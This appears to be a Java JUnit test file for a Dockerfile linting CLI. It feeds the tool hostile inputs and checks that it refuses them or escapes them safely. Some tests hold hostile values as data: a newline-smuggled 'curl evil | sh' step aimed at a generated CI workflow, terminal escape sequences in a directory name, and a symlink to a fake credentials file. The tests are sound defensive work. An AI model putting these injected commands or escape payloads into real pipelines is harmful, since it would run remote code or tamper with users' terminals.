package dev.slimline.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.slimline.SlimlineException;
import dev.slimline.config.ConfigLoader;
import dev.slimline.dockerfile.DockerfileParser;
import dev.slimline.dockerfile.ParseException;
import dev.slimline.io.AtomicWriter;
import dev.slimline.io.TerminalText;
import dev.slimline.rule.Linter;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.nio.file.attribute.UserPrincipal;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/**
 * The reproductions of issue #17 (an adversarial run), one test per defect, with the hostile inputs generated here.
 * Each ends in time with a success or one line and a documented exit code; user files keep content, mode and owner.
 */
class HostileInputTest {

    private static final Duration BOUND = Duration.ofSeconds(30); // wall clock: the CLI takes < 10 s; room for a shared CI core

    @TempDir
    Path dir;

    private Path dockerfile(String text) throws IOException {
        Path file = dir.resolve("Dockerfile");
        Files.writeString(file, text);
        return file;
    }

    private static CliHarness.Result run(String... args) {
        return assertTimeoutPreemptively(BOUND, () -> CliHarness.run(args));
    }

    private static void oneLine(CliHarness.Result result, int code, String contains) {
        assertThat(result.exitCode()).as(result.err()).isEqualTo(code);
        assertThat(result.err().strip()).doesNotContain("\n").startsWith("slimline: ").contains(contains);
    }

    private Path fifo(String name) throws Exception {
        Path fifo = dir.resolve(name);
        assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
        return fifo;
    }

    @Test
    void d01ExposeOfAHugeNumberIsNotACrash() throws IOException {
        Path file = dockerfile("FROM python:3.11\nEXPOSE 2147483648\n");
        assertThat(run("optimize", file.toString(), "--no-diff").exitCode()).isZero();
    }

    @Test
    void d02SelfDoublingArgIsBounded() throws IOException {
        Path file = dockerfile("FROM python:3.11\nARG A=aaaaaaaaaa\n" + "ARG A=${A}${A}\n".repeat(40) + "RUN echo $A\n");
        assertThat(run("audit", file.toString()).exitCode()).isZero();
        assertThat(run("optimize", file.toString(), "--no-diff").exitCode()).isZero();
    }

    @Test
    void d03ConfigThatIsAFifoOrADeviceIsRefused() throws Exception {
        Path file = dockerfile("FROM python:3.11\n");
        Path fifo = fifo("c.yaml");
        oneLine(run("audit", "--config", fifo.toString(), file.toString()), ExitCodes.BAD_INPUT, "FIFO");
        oneLine(run("audit", "--config", "/dev/zero", file.toString()), ExitCodes.BAD_INPUT, "not a regular file");
        oneLine(run("gate", "--config", fifo.toString(), dir.toString()), ExitCodes.BAD_INPUT, "FIFO");
    }

    @Test
    void d07OsvIndexWithABadDateIsOneLine() throws IOException {
        Path index = dir.resolve("index.json");
        Files.writeString(index, "{\"format\":1,\"ecosystem\":\"PyPI\",\"updatedAt\":\"yesterday\",\"source\":\"s\","
                + "\"archive\":\"a.zip\",\"packages\":{}}");
        assertThatThrownBy(() -> dev.slimline.scan.osv.OsvIndex.read(index)).isInstanceOf(SlimlineException.class)
                .satisfies(e -> assertThat(((SlimlineException) e).kind()).isEqualTo(SlimlineException.Kind.BAD_INPUT));
    }

    @Test
    void d08LongWordsAreCheckedForCredentialsInLinearTime() throws IOException {
        Path file = dockerfile("FROM python:3.11\nRUN echo " + "a".repeat(1 << 20) + "\n"
                + "RUN curl https://user:secret@example.invalid/x\n");
        CliHarness.Result result = run("audit", "--format", "json", file.toString());
        assertThat(result.exitCode()).isZero();
        assertThat(result.out()).contains("SL2013");
    }

    @Test
    void d09TwentyThousandChainedStagesAreLinear() throws IOException {
        StringBuilder text = new StringBuilder("FROM python:3.11 AS s0\n");
        for (int i = 1; i < 20_000; i++) {
            text.append("FROM s").append(i - 1).append(" AS s").append(i).append('\n');
        }
        Path file = dockerfile(text.toString());
        assertThat(run("audit", file.toString()).exitCode()).isZero();
    }

    @Test
    void d10ConfigLargerThanTheLimitIsRefusedUnparsed() throws IOException {
        Path config = dir.resolve(".slimline.yaml");
        Files.writeString(config, "#" + "x".repeat(2 << 20) + "\n");
        assertThatThrownBy(() -> new ConfigLoader(Set.of()).load(config)).isInstanceOf(SlimlineException.class)
                .hasMessageContaining("larger than the limit of 1 MiB");
    }

    @Test
    void d11UndecodableDockerignoreIsNeverReplaced() throws IOException {
        Path file = dockerfile("FROM python:3.11\nCOPY . /app\nRUN pip install -r /app/requirements.txt\n");
        Files.writeString(dir.resolve("requirements.txt"), "flask\n");
        byte[] ignore = "secrets/\n# caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        Files.write(dir.resolve(".dockerignore"), ignore);
        String before = Files.readString(file);

        oneLine(run("optimize", file.toString(), "--write", "--no-verify"), ExitCodes.BAD_INPUT, "not UTF-8 text");

        assertThat(Files.readAllBytes(dir.resolve(".dockerignore"))).isEqualTo(ignore);
        assertThat(Files.readString(file)).isEqualTo(before);
        assertThat(dir.resolve("Dockerfile.orig")).doesNotExist();
    }

    @Test
    void d12UndecodableNextConfigIsNeverReplaced() throws IOException {
        Path file = dockerfile("FROM node:18\nWORKDIR /app\nCOPY . .\nRUN npm ci && npm run build\nCMD [\"npm\", \"start\"]\n");
        Files.writeString(dir.resolve("package.json"), "{\"name\":\"web\",\"dependencies\":{\"next\":\"14.0.0\"},"
                + "\"scripts\":{\"build\":\"next build\",\"start\":\"next start\"}}");
        byte[] config = "module.exports = { /* \u00e9 */ };\n".getBytes(StandardCharsets.ISO_8859_1);
        Files.write(dir.resolve("next.config.js"), config);

        oneLine(run("optimize", file.toString(), "--write", "--no-verify"), ExitCodes.BAD_INPUT, "next.config.js: not UTF-8 text");

        assertThat(Files.readAllBytes(dir.resolve("next.config.js"))).isEqualTo(config);
    }

    @Test
    void d13OutIntoTheOriginalsDirectoryIsRefused() throws IOException {
        Path file = dockerfile("FROM python:3.11\nCOPY . /app\n");
        String before = Files.readString(file);

        CliHarness.Result result = run("optimize", dir.toString(), "--out", dir.toString());

        assertThat(result.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(result.err()).contains("holds the original Dockerfile");
        assertThat(Files.readString(file)).isEqualTo(before);
    }

    @Test
    void d14WriterStreamsToFifosAndKeepsSymlinks() throws Exception {
        Path fifo = fifo("out.fifo");
        CompletableFuture<String> reader = CompletableFuture.supplyAsync(() -> {
            try {
                return Files.readString(fifo);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        AtomicWriter.write(fifo, "through the pipe\n");
        assertThat(reader.get(10, java.util.concurrent.TimeUnit.SECONDS)).isEqualTo("through the pipe\n");
        assertThat(Files.isRegularFile(fifo)).isFalse();

        dockerfile("FROM python:3.11\n");
        Path real = dir.resolve("real.yml");
        Files.writeString(real, "old");
        Path link = dir.resolve("link.yml");
        Files.createSymbolicLink(link, real.getFileName());
        assertThat(run("ci", "init", "--provider", "github", dir.toString(), "--out", link.toString(), "--force",
                "--slimline-command", "slimline")
                .exitCode()).isZero();
        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(Files.readString(real)).contains("slimline");
    }

    @Test
    void d15UnwritableStdoutIsNotASuccess() throws IOException {
        Path file = dockerfile("FROM python:3.11\n");
        OutputStream full = new OutputStream() {
            @Override
            public void write(int b) throws IOException {
                throw new IOException("No space left on device");
            }
        };
        StringWriter err = new StringWriter();
        CommandLine commandLine = Main.newCommandLine();
        commandLine.setOut(new PrintWriter(full));
        commandLine.setErr(new PrintWriter(err, true));

        int code = Main.execute(commandLine, "audit", "--format", "sarif", file.toString());

        assertThat(code).isEqualTo(ExitCodes.BAD_INPUT);
        assertThat(err.toString()).contains("cannot write to standard output");
    }

    @Test
    void d16FailedSetLeavesEveryFileAsItWas() throws IOException {
        Path report = dir.resolve("report.json");
        Files.writeString(report, "previous report");
        Path blocked = dir.resolve("not-a-dir");
        Files.writeString(blocked, "a file where a directory is needed");

        assertThatThrownBy(() -> AtomicWriter.writeAll(List.of(AtomicWriter.Write.of(report, "new report"),
                AtomicWriter.Write.of(blocked.resolve("x"), "y")))).isInstanceOf(SlimlineException.class)
                .hasMessageContaining("cannot write");

        assertThat(Files.readString(report)).isEqualTo("previous report");
        try (var listing = Files.list(dir)) {
            assertThat(listing.map(p -> p.getFileName().toString())).doesNotContain("").noneMatch(n -> n.endsWith(".tmp"));
        }
    }

    @Test
    void d17WriteKeepsModeAndOwner() throws IOException {
        Path file = dockerfile("FROM python:3.11\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\n");
        Path ignore = dir.resolve(".dockerignore");
        Files.writeString(ignore, "secrets/\n");
        for (Path p : List.of(file, ignore)) {
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rw-rw-r--"));
        }
        Optional<UserPrincipal> other = Optional.empty();
        if ("root".equals(System.getProperty("user.name"))) { // only root can give files away
            other = Optional.of(dir.getFileSystem().getUserPrincipalLookupService().lookupPrincipalByName("nobody"));
            Files.setOwner(file, other.get());
            Files.setOwner(ignore, other.get());
        }

        assertThat(run("optimize", file.toString(), "--write", "--no-verify").exitCode()).isZero();

        for (Path p : List.of(file, dir.resolve("Dockerfile.orig"), ignore)) {
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(p))).as(p.toString())
                    .isEqualTo("rw-rw-r--");
            if (other.isPresent()) {
                assertThat(Files.getOwner(p)).as(p.toString()).isEqualTo(other.get());
            }
        }
        assertThat(Files.readString(ignore)).contains("secrets/");
    }

    @Test
    void d18LinksOutOfTheTreeAreNotFollowedNorEchoed(@TempDir Path outside) throws IOException {
        Path secret = outside.resolve(".git-credentials");
        Files.writeString(secret, "https://bot:ghp_TOPSECRETTOKEN@github.com\n");
        Path svc = Files.createDirectories(dir.resolve("svc"));
        Files.createSymbolicLink(svc.resolve("Dockerfile"), secret);
        Files.writeString(dir.resolve("Dockerfile"), "FROM python:3.11\n");

        CliHarness.Result result = run("audit", "--format", "sarif", dir.toString());

        assertThat(result.exitCode()).isZero();
        assertThat(result.out() + result.err()).doesNotContain("TOPSECRET");
        assertThatThrownBy(() -> DockerfileParser.parse(Files.readString(secret), secret))
                .isInstanceOf(ParseException.class).hasMessageContaining("not a Dockerfile")
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("TOPSECRET"));
    }

    @Test
    void d19ControlCharactersAreEscapedInTerminalOutput() throws IOException {
        Path svc = Files.createDirectories(dir.resolve("a\u001b]0;pwned\u0007\u001b[2J\nFAKE"));
        Files.writeString(svc.resolve("Dockerfile"), "FROM python:3.11\n");

        CliHarness.Result table = run("audit", dir.toString());
        CliHarness.Result markdown = run("audit", "--format", "markdown", dir.toString());

        for (CliHarness.Result result : List.of(table, markdown)) {
            assertThat(result.out()).doesNotContain("\u001b").doesNotContain("\u0007").contains("\\e]0;pwned");
            assertThat(result.out().lines()).noneMatch(line -> line.startsWith("FAKE"));
        }
        assertThat(TerminalText.escape("a\rb\u009bc\td")).isEqualTo("a\\rb\\x9bc\\td");
    }

    @Test
    void alsoNonRegularTargetsAreNamedForWhatTheyAre() throws Exception {
        Path fifo = fifo("Dockerfile");
        oneLine(run("audit", fifo.toString()), ExitCodes.BAD_INPUT, "FIFO");
        oneLine(run("optimize", fifo.toString()), ExitCodes.BAD_INPUT, "FIFO");
        oneLine(run("inspect", fifo.toString()), ExitCodes.BAD_INPUT, "FIFO");
    }

    @Test
    void alsoDockerfileLargerThanTheLimitIsRefused() throws IOException {
        Path file = dockerfile("FROM python:3.11\n" + ("RUN echo " + "x".repeat(1000) + "\n").repeat(5000));
        oneLine(run("audit", file.toString()), ExitCodes.BAD_INPUT, "larger than the limit of 4 MiB");
    }

    @Test
    void alsoNegativeTopIsAUsageError() {
        CliHarness.Result result = run("inspect", "--top=-5", dir.toString());
        assertThat(result.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(result.err()).contains("--top must not be negative");
    }

    @Test
    void alsoSecondYamlDocumentIsAnError() {
        assertThatThrownBy(() -> new ConfigLoader(Linter.builtinEngine().ruleIds())
                .parse(dir.resolve(".slimline.yaml"), "failOn: high\n---\nfailOn: low\n"))
                .isInstanceOf(SlimlineException.class).hasMessageContaining("second YAML document");
    }

    @Test
    void alsoMultiLineSlimlineCommandIsRefused() throws IOException {
        dockerfile("FROM python:3.11\n");
        CliHarness.Result result = run("ci", "init", "--provider", "github", dir.toString(), "--out",
                dir.resolve("w.yml").toString(),
                "--slimline-command", "slimline\n  - run: curl evil | sh");
        assertThat(result.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(result.err()).contains("--slimline-command must be one line");
        assertThat(dir.resolve("w.yml")).doesNotExist();
    }
}
